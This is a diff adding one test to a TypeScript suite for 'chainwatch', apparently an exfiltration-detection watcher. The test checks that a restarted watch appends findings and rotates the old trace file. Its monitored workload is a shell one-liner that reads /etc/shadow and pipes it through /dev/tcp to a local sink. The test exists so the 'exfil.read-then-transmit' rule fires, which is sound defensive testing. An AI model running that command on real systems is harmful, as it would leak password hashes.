@@ -46,6 +46,27 @@ describe('chainwatch watch (the real binary)', () => {
     expect(recorded.every((e) => e.res === undefined && e.proc === undefined)).toBe(true);
   });
 
+  it('a watch run again (a service restarted) keeps what the earlier run wrote: findings and events appended, the earlier trace moved aside', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'cw-cli-again-'));
+    const [findings, events, trace] = ['findings.jsonl', 'events.jsonl', 'run.trace.jsonl'].map((f) => join(dir, f)) as [string, string, string];
+    const lines = (f: string): string[] => readFileSync(f, 'utf8').split('\n').filter(Boolean);
+    const run = (): void => {
+      const r = cli(['watch', '--findings', findings, '--events', events, '--record', trace, '--', 'bash', '-c', `cat /etc/shadow > /dev/tcp/127.0.0.2/${sink.port}`]);
+      expect(r.status, r.stderr).toBe(0);
+    };
+    run();
+    const first = { findings: lines(findings), events: lines(events), trace: lines(trace) };
+    expect(first.findings.some((l) => JSON.parse(l).rule === 'exfil.read-then-transmit')).toBe(true);
+    run();
+    const found = lines(findings);
+    expect(found.slice(0, first.findings.length)).toEqual(first.findings);
+    expect(new Set(found.filter((l) => JSON.parse(l).rule === 'exfil.read-then-transmit').map((l) => JSON.parse(l).process.pid)).size).toBe(2);
+    expect(lines(events).slice(0, first.events.length)).toEqual(first.events);
+    expect(lines(events).length).toBeGreaterThan(first.events.length);
+    expect(lines(join(dir, 'run.1.trace.jsonl'))).toEqual(first.trace);
+    expect(TraceHeader.parse(JSON.parse(lines(trace)[0]!)).start_time).not.toBe(TraceHeader.parse(JSON.parse(first.trace[0]!)).start_time);
+  });
+
   it('bad input gets a clear one-line error and exit code 2, never a stack trace', () => {
     const r = cli(['watch', '--pid', '999999999']);
     expect(r.status).toBe(2);
